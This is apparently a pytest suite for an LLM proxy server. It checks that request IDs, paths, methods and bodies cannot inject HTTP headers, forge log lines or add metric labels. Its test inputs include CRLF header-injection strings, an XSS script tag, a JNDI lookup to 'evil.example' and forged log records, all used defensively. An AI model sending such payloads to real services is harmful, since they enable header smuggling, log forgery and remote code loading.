"""Text from clients cannot forge a header, a metric or a log line."""

from __future__ import annotations

import re
from typing import Any
from urllib.parse import quote

import pytest
from support.waiting import until
from support.wire import HEADERS, assert_refused, request

QUESTION = b'{"messages": [{"role": "user", "content": "What is 6 times 7?"}]}'
FORGED = '{"level": "INFO", "logger": "optillm_cerebras_cepo.access", "message": "request", "request_id": "forged"}'
OURS = re.compile("[0-9a-f]{32}")

STRANGE_IDS: dict[str, str | bytes] = {
    "spaces": "a b",
    "quotes": '"}, "level": "CRITICAL", "x": "',
    "a line": FORGED,
    "HTML": "<script>alert(1)</script>",
    "a comma": "a,b",
    "a semicolon": "a;b",
    "percent": "a%0d%0aset-cookie:b",
    "backslashes": "a\\r\\nset-cookie: b",
    "a lookup": "${jndi:ldap://evil.example/a}",
    "a colour": b"\x1b[31m"[1:],
    "Latin-1": b"\xe4\xf6\xfc",
    "UTF-8": "ä\u2028b\u202e".encode(),
    "a line end in C1": b"a\x85b",
    "empty": "",
    "129 characters": "a" * 129,
    "10 kB": "a" * 10_000,
}
BROKEN_IDS = {
    "CR LF": b"a\r\n\r\nHTTP/1.1 200 OK",
    "LF": b"a\nset-cookie: b",
    "CR": b"a\rset-cookie: b",
    "null": b"a\0b",
    "escape": b"a\x1b[31mb",
    "a folded line": b"a\r\n set-cookie: b",
}


@pytest.mark.parametrize("how", STRANGE_IDS)
def test_an_invalid_request_id_is_replaced(plain: Any, how: str) -> None:
    """In the reply and in the log, by one that needs no quoting."""
    reply = plain.ask(QUESTION, x_request_id=STRANGE_IDS[how])
    assert reply.status == 200
    assert reply.headers.keys() <= HEADERS
    assert OURS.fullmatch(reply.headers["x-request-id"])
    until(lambda: plain.logged(reply))


@pytest.mark.parametrize("how", BROKEN_IDS)
def test_a_request_id_with_a_line_end_is_refused(plain: Any, how: str) -> None:
    """Nothing of it is in the reply."""
    reply = plain.ask(QUESTION, x_request_id=BROKEN_IDS[how])
    if how == "CR LF":  # then the headers end there, and the rest is the next request
        assert_refused(reply, 400, "invalid_request")
    else:
        assert_refused(reply, 400, "invalid_request")
        assert OURS.fullmatch(reply.headers["x-request-id"])
    assert plain.trap.sent == []


def test_two_request_ids_are_replaced(plain: Any) -> None:
    """HTTP joins them with a comma."""
    data = b"GET /health HTTP/1.1\r\nhost: a\r\nx-request-id: a\r\nx-request-id: b\r\n\r\n"
    assert OURS.fullmatch(plain.send(data).headers["x-request-id"])


@pytest.mark.parametrize(
    "path",
    [
        "/" + quote("\r\nset-cookie: b"),
        "/v1/models/" + quote("\r\nset-cookie: b\r\n\r\n<script>"),
        "/v1/models/" + quote(f"\n{FORGED}\n"),
        f"/{FORGED}".replace(" ", "%20"),
        "/%1b%5b31m",
        "/%c2%85%e2%80%a8",
        "/%22%7d%5c",
    ],
    ids=range(7),
)
def test_a_path_cannot_add_a_line(plain: Any, path: str) -> None:
    """Neither to the reply's headers nor to the log."""
    reply = plain.send(request("GET", path))
    assert reply.status == 404
    assert reply.headers.keys() <= HEADERS
    for word in ("script", "cookie", "forged"):
        assert word not in f"{reply.headers} {reply.body.decode()}"
    until(lambda: plain.logged(reply))
    assert not [record for record in plain.records() if record.get("request_id") == "forged"]


def test_a_method_cannot_add_a_line(plain: Any) -> None:
    """It may be any word, of any length."""
    reply = plain.send(request("X" * 5000 + "-!#$%&'*+.^_`|~", "/health"))
    assert_refused(reply, 405, "wrong_method")
    until(lambda: plain.logged(reply))
    record = plain.logged(reply)
    assert record["method"] == "(unprintable)"


def test_no_body_is_in_the_log(plain: Any) -> None:
    """Nor its errors, its names, or the API's answer."""
    for body in (
        b'{"messages": [{"role": "planted", "content": "planted"}], "planted": "planted", "model": "planted"}',
        b'{"messages": [{"role": "user", "content": "planted"}], "optillm_approach": "planted"}',
        b'{"messages": [{"role": "user", "content": "planted"}], "cepo_cerebras_planted": "planted"}',
        b'{"planted',
    ):
        last = plain.ask(body, user_agent="planted", referer="planted", x_planted="planted")
        assert last.status == 400
    until(lambda: plain.logged(last))
    assert "planted" not in plain.server.log


def test_names_in_a_body_are_no_labels(plain: Any) -> None:
    """Labels of metrics are only our own paths, approaches and efforts, or memory would grow."""
    for number in range(20):
        plain.send(request("GET", f"/planted-{number}"))
        plain.send(request(f"PLANTED{number}", "/health"))
        plain.ask(b'{"messages": [], "optillm_approach": "planted-%d", "cepo_cerebras_effort": "planted"}' % number)
        plain.ask(b'{"messages": [], "model": "planted-%d&b"}' % number)
    page = plain.send(request("GET", "/metrics")).body.decode()
    assert "planted" not in page.lower()
    assert 'path="other"' in page
